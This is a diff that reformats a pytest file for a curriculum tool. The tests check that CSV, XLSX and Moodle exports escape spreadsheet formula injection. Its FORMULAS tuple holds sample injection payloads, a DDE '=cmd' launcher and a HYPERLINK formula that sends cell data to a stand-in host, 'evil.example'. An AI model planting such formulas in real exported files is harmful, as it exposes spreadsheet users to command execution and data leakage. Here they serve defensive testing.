@@ -28,17 +28,28 @@ from curriculum_tool.recommend.batch import STEP_COLUMNS, run_batch
 from curriculum_tool.store import Workspace
 
 #: Text a spreadsheet evaluates, one per formula start, plus quoted text (the bijection).
-FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
-            "+1+2", "-2+3", "@SUM(A1:A9)", "'=1+2")
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=1+2",
+)
 #: Starts that imports strip (cells are trimmed), so only an edit can store them; they are
 #: checked for escaping, not for a round trip (XML, too, reads a CR as a line feed).
 CONTROLS = ("\t=1+2", "\r=1+2", "\t@x", "\r-1")
 TEXTS = {"formulas": FORMULAS, "controls": CONTROLS}
 #: The free-text fields of each contract kind.
-TEXT_FIELDS = {"competencies": ("name", "description"), "modules": ("title", "owner"),
-               "regions": ("name",), "regional_standards": ("reason",),
-               "job_standards": ("title",), "learners": ("name", "unit"),
-               "obligations": ("regulation",)}
+TEXT_FIELDS = {
+    "competencies": ("name", "description"),
+    "modules": ("title", "owner"),
+    "regions": ("name",),
+    "regional_standards": ("reason",),
+    "job_standards": ("title",),
+    "learners": ("name", "unit"),
+    "obligations": ("regulation",),
+}
 SUFFIXES = (".csv", ".xlsx")
 NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 #: The name of the workspace file becomes the Moodle framework's name.
@@ -51,9 +62,12 @@ def poison(workspace, texts: tuple[str, ...]) -> None:
     every text."""
     with workspace.transaction() as conn:
         for kind, fields in TEXT_FIELDS.items():
-            records = [replace(record, **{field: texts[(i + j) % len(texts)]
-                                          for j, field in enumerate(fields)})
-                       for i, record in enumerate(workspace.load(kind, conn))]
+            records = [
+                replace(
+                    record, **{field: texts[(i + j) % len(texts)] for j, field in enumerate(fields)}
+                )
+                for i, record in enumerate(workspace.load(kind, conn))
+            ]
             workspace.write(conn, kind, records)
 
 
@@ -103,8 +117,9 @@ def xlsx_cells(path: Path) -> list[str]:
         shared = []
         if "xl/sharedStrings.xml" in names:
             root = ElementTree.fromstring(package.read("xl/sharedStrings.xml"))
-            shared = ["".join(t.text or "" for t in item.iter(f"{NS}t"))
-                      for item in root.iter(f"{NS}si")]
+            shared = [
+                "".join(t.text or "" for t in item.iter(f"{NS}t")) for item in root.iter(f"{NS}si")
+            ]
         sheets = [n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")]
         assert sheets
         for name in sheets:
@@ -165,8 +180,9 @@ def test_write_rows_never_writes_a_formula_or_an_error_cell(tmp_path, suffix):
     assert_holds(out, texts)
     if suffix == ".xlsx":  # the numeric column stays numbers
         book = load_workbook(out, read_only=True)
-        assert [r[1] for r in book.active.iter_rows(min_row=2, values_only=True)] == \
-            list(range(len(texts)))
+        assert [r[1] for r in book.active.iter_rows(min_row=2, values_only=True)] == list(
+            range(len(texts))
+        )
         book.close()
 
 
@@ -189,7 +205,7 @@ def test_table_exports_escape_every_text(poisoned, run_cli, tmp_path, kind, suff
         shown = texts_of(records, TEXT_FIELDS.get(kind, ()))
         assert_holds(out, shown)
         if kind in ("modules", "learners") and unmask:
-            assert shown == set(texts)       # every text went through this writer
+            assert shown == set(texts)  # every text went through this writer
 
 
 def test_masked_names_are_escaped_too(formulas, run_cli, tmp_path):
@@ -203,16 +219,16 @@ def test_masked_names_are_escaped_too(formulas, run_cli, tmp_path):
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
 @pytest.mark.parametrize("kind", TEXT_FIELDS)
-def test_table_exports_read_back_to_the_original_text(formulas, run_cli, tmp_path, kind,
-                                                      suffix):
+def test_table_exports_read_back_to_the_original_text(formulas, run_cli, tmp_path, kind, suffix):
     with opened(formulas) as workspace:
         records = workspace.load(kind)
         secret = workspace.get_meta("pseudonym_key") or ""
     for unmask in (True, False):
         out = tmp_path / f"{kind}-{unmask}{suffix}"
         assert run_cli("export", formulas, kind, out, *(["--unmask"] * unmask))[0] == 0
-        expected = records if unmask or kind != "learners" else \
-            [mask_record(r, secret) for r in records]
+        expected = (
+            records if unmask or kind != "learners" else [mask_record(r, secret) for r in records]
+        )
         parsed = parse_file(kind, out)
         assert parsed.problems == []
         assert parsed.records == expected
@@ -228,7 +244,7 @@ def test_moodle_export_escapes_every_text(poisoned, run_cli, tmp_path):
     with opened(path) as workspace:
         names = {c.name for c in workspace.load("competencies")}
     assert names == set(texts)
-    assert_holds(out, names | {Path(WORKSPACE_NAME).stem})   # the framework's own name
+    assert_holds(out, names | {Path(WORKSPACE_NAME).stem})  # the framework's own name
 
 
 def test_moodle_export_reads_back_to_the_original_text(formulas, run_cli, tmp_path):
@@ -246,27 +262,43 @@ def test_moodle_export_reads_back_to_the_original_text(formulas, run_cli, tmp_pa
 def crafted_paths(texts: tuple[str, ...]) -> list[LearnerPath]:
     """Paths whose learner and module cells hold ``texts`` (the writer does not check that
     they are codes)."""
-    return [LearnerPath(learner=text, position="p", region="r", steps=(
-        PathStep(module=text, title=text, period=1, jp=8, modality="klasikal",
-                 p_success=0.5, value=0.25),)) for text in texts]
+    return [
+        LearnerPath(
+            learner=text,
+            position="p",
+            region="r",
+            steps=(
+                PathStep(
+                    module=text,
+                    title=text,
+                    period=1,
+                    jp=8,
+                    modality="klasikal",
+                    p_success=0.5,
+                    value=0.25,
+                ),
+            ),
+        )
+        for text in texts
+    ]
 
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
-def test_paths_export_escapes_learner_and_module(poisoned, run_cli, tmp_path, monkeypatch,
-                                                 suffix):
+def test_paths_export_escapes_learner_and_module(poisoned, run_cli, tmp_path, monkeypatch, suffix):
     path, texts = poisoned
-    monkeypatch.setattr("curriculum_tool.store.paths.load_paths",
-                        lambda conn: crafted_paths(texts))
+    monkeypatch.setattr("curriculum_tool.store.paths.load_paths", lambda conn: crafted_paths(texts))
     out = tmp_path / f"paths{suffix}"
     assert run_cli("export", path, "paths", out, "--unmask")[0] == 0
     assert_holds(out, texts)
 
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
-def test_paths_export_reads_back_to_the_original_text(formulas, run_cli, tmp_path,
-                                                      monkeypatch, suffix):
-    monkeypatch.setattr("curriculum_tool.store.paths.load_paths",
-                        lambda conn: crafted_paths(FORMULAS))
+def test_paths_export_reads_back_to_the_original_text(
+    formulas, run_cli, tmp_path, monkeypatch, suffix
+):
+    monkeypatch.setattr(
+        "curriculum_tool.store.paths.load_paths", lambda conn: crafted_paths(FORMULAS)
+    )
     out = tmp_path / f"paths{suffix}"
     assert run_cli("export", formulas, "paths", out, "--unmask")[0] == 0
     rows = [row for _, row in read_rows(out, STEP_COLUMNS)]
@@ -292,11 +324,11 @@ def test_score_output_is_safe_and_reads_back(formulas, run_cli, write_csv, tmp_p
     with opened(formulas) as workspace:
         learners = [learner.id for learner in workspace.load("learners")[:3]]
         modules = [module.code for module in workspace.load("modules")[:2]]
-    pairs = [{"learner": learner, "module": module} for learner in learners
-             for module in modules]
+    pairs = [{"learner": learner, "module": module} for learner in learners for module in modules]
     out = tmp_path / f"scores{suffix}"
-    code, _, err = run_cli("score", formulas, write_csv("pairs.csv", ("learner", "module"),
-                                                        pairs), "--out", out)
+    code, _, err = run_cli(
+        "score", formulas, write_csv("pairs.csv", ("learner", "module"), pairs), "--out", out
+    )
     assert (code, err) == (0, "")
     cells_of(out)
     rows = [row for _, row in read_rows(out, ("learner", "module", "p_success"))]
